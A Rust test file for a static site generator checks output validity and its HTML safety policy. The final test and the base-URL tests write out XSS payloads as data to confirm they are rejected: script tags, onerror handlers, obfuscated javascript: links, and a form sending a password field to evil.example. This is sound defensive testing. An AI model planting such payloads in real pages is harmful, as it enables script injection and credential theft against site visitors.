//! Every value that reaches HTML or XML is valid there: control characters
//! refused in content, feeds and sitemap well-formed for awkward text, the
//! base URL checked the same on the command line as in site.yaml, and the
//! raw-HTML policy of Markdown bodies.

use kommhub::Code;

use crate::support::{TestSite, news, report};

const RELEASE: &str = "content/news/2025-01-20-a.md";

#[test]
fn control_characters_in_a_release_fail_the_build_at_their_line() {
    let site = TestSite::new().file(
        RELEASE,
        "---\ntitle: \"Ti\u{B}tel\"\nassociations: [itk]\ncontact: presse\n---\n\nNull\0 hier.\n\nEin Escape \u{1B}[31m und zwei \u{B}\u{B}.\n",
    );
    let problems = site.errors();
    let places: Vec<_> = problems
        .iter()
        .map(|p| (p.code, p.line, p.column))
        .collect();
    assert_eq!(
        places,
        [
            (Code::ContentControlCharacter, 2, 11),
            (Code::ContentControlCharacter, 7, 5),
            (Code::ContentControlCharacter, 9, 12),
        ]
    );
    insta::assert_snapshot!(report(&problems));

    let run = site.run(&["build"]);
    assert_eq!(run.status.code(), Some(1));
    assert!(!site.exists("public/atom.xml"));
}

/// A register with one adopted standard, so its feed is written too.
fn awkward_site() -> TestSite {
    let awkward = "A & B <C> ]]> \\\"q\\\" 'a' 😀 \u{200F}עברית\u{200E}";
    TestSite::new()
        .file("content/_index.en.md", "---\ntitle: Home\n---\n")
        .file("content/news/_index.md", "---\ntitle: Presse\n---\n")
        .file("content/news/_index.en.md", "---\ntitle: News\n---\n")
        .file(
            RELEASE,
            &format!(
                "---\ntitle: \"{awkward}\"\nsummary: \"{awkward}\"\nassociations: [itk]\ncontact: presse\ntags: [\"R&D\", \"<b>\"]\n---\n\nText ]]> & <3 `a<b` 😀 \u{200F}עברית\u{200E}.\n"
            ),
        )
        .file(
            "content/news/2025-01-20-a.en.md",
            &news("English & <friends> ]]>", ""),
        )
        .file("content/standards/_index.md", "---\ntitle: Standards\n---\nDas Register.\n")
        .file(
            "content/standards/s/1.0.md",
            &format!(
                "---\ntitle: \"{awkward}\"\nid: HUB-STD-0001\nversion: \"1.0\"\nstatus: adopted\nadopted: 2025-03-01\nassociations: [itk]\nchanges: \"{awkward}\"\n---\n\nText ]]>.\n"
            ),
        )
}

#[test]
fn every_xml_file_is_well_formed_with_awkward_but_legal_characters() {
    let site = awkward_site().built();
    let mut parsed = Vec::new();
    for entry in walkdir::WalkDir::new(site.root().join("public")) {
        let entry = entry.expect("walk");
        if entry.path().extension().is_some_and(|e| e == "xml") {
            let text = std::fs::read_to_string(entry.path()).expect("read");
            if let Err(error) = roxmltree::Document::parse(&text) {
                panic!(
                    "{} is not well-formed: {error}\n{text}",
                    entry.path().display()
                );
            }
            let path = entry.path().strip_prefix(site.root()).expect("inside");
            parsed.push(path.to_string_lossy().replace('\\', "/"));
        }
    }
    parsed.sort();
    for expected in [
        "public/atom.xml",
        "public/en/atom.xml",
        "public/news/verband/itk/atom.xml",
        "public/standards/atom.xml",
        "public/sitemap.xml",
    ] {
        assert!(
            parsed.iter().any(|p| p == expected),
            "{expected}: {parsed:?}"
        );
    }
    let feed = site.read("public/atom.xml");
    let document = roxmltree::Document::parse(&feed).expect("feed");
    let title = document
        .descendants()
        .find(|n| n.has_tag_name("entry"))
        .and_then(|entry| entry.children().find(|n| n.has_tag_name("title")))
        .and_then(|title| title.text())
        .unwrap_or_default();
    assert!(
        title.starts_with("A & B <C> ]]> \"q\" 'a' 😀 \u{200F}"),
        "{title}"
    );
}

#[test]
fn a_script_base_url_on_the_command_line_is_a_usage_error() {
    let site = TestSite::new();
    let run = site.run(&["build", "--base-url", "javascript:alert(1)//"]);
    assert_eq!(run.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert!(stderr.contains("is not a web address"), "{stderr}");
    assert!(stderr.contains("help: write the full address"), "{stderr}");
    assert!(!site.exists("public"));

    let run = site.run(&["build", "--base-url", "https://preview.example.org/a\"b"]);
    assert_eq!(run.status.code(), Some(2));

    let run = site.run(&["build", "--base-url", "https://preview.example.org/pr-7/"]);
    assert_eq!(
        run.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
    assert!(
        site.read("public/index.html")
            .contains("href=\"https://preview.example.org/pr-7/\"")
    );
}

#[test]
fn command_line_and_site_yaml_refuse_a_base_url_with_the_same_words() {
    let value = "javascript:alert(1)//";
    let bad = value
        .parse::<kommhub::config::BaseUrl>()
        .expect_err("a script is no base URL");
    let site = TestSite::new();
    let yaml = site
        .read("site.yaml")
        .replace("\"https://hub.example.org\"", &format!("\"{value}\""));
    let site = site.file("site.yaml", &yaml);
    let problems = site.errors();
    assert_eq!(problems.len(), 1, "{}", report(&problems));
    assert_eq!(
        problems[0].message,
        format!("`base_url: {value}` {}", bad.problem)
    );
    assert_eq!(problems[0].help, bad.help);
    assert_eq!(
        (problems[0].line, problems[0].code),
        (2, Code::ConfigInvalid)
    );
}

#[test]
fn allowed_raw_html_reaches_the_page() {
    let site = TestSite::new()
        .file(
            "content/seite.md",
            "---\ntitle: Seite\n---\n\nDas <abbr title=\"Onlinezugangsgesetz\">OZG</abbr>, m<sup>2</sup>, <kbd>Strg</kbd>.\n\n<details>\n<summary>Mehr</summary>\n\n<span lang=\"en\">hub</span>\n\n</details>\n",
        )
        .built();
    let page = site.read("public/seite/index.html");
    for needle in [
        "<abbr title=\"Onlinezugangsgesetz\">OZG</abbr>",
        "<sup>2</sup>",
        "<details>",
        "<span lang=\"en\">hub</span>",
    ] {
        assert!(page.contains(needle), "{needle} in {page}");
    }
}

#[test]
fn dangerous_raw_html_fails_build_and_check_at_its_markdown_line() {
    let body = [
        "Erster Absatz.",
        "",
        "<script>alert(1)</script>",
        "",
        "Bild: <img src=\"x.png\" alt=\"x\" onerror=\"alert(1)\">",
        "",
        "[Klick](JaVaScRiPt:alert(1)) und [auch](java&#x09;script:alert(1))",
        "",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "",
        "<iframe src=\"https://www.youtube.com/embed/x\"></iframe>",
        "",
        "<form action=\"https://evil.example/collect\"><input name=\"pw\"></form>",
        "",
        "<p style=\"display:none\">versteckt</p>",
        "",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "",
        "<center>alt</center>",
    ]
    .join("\n");
    let site = TestSite::new().file(RELEASE, &news("A", "").replace("Text der Meldung.", &body));
    let problems = site.errors();
    assert!(
        problems.iter().all(|p| p.file.ends_with("2025-01-20-a.md")),
        "{}",
        report(&problems)
    );
    insta::assert_snapshot!(report(&problems));

    let run = site.run(&["check"]);
    assert_eq!(run.status.code(), Some(1));
    let stdout = String::from_utf8_lossy(&run.stdout);
    assert!(
        stdout.contains(Code::MarkdownUnsafeHtml.as_str()),
        "{stdout}"
    );
}
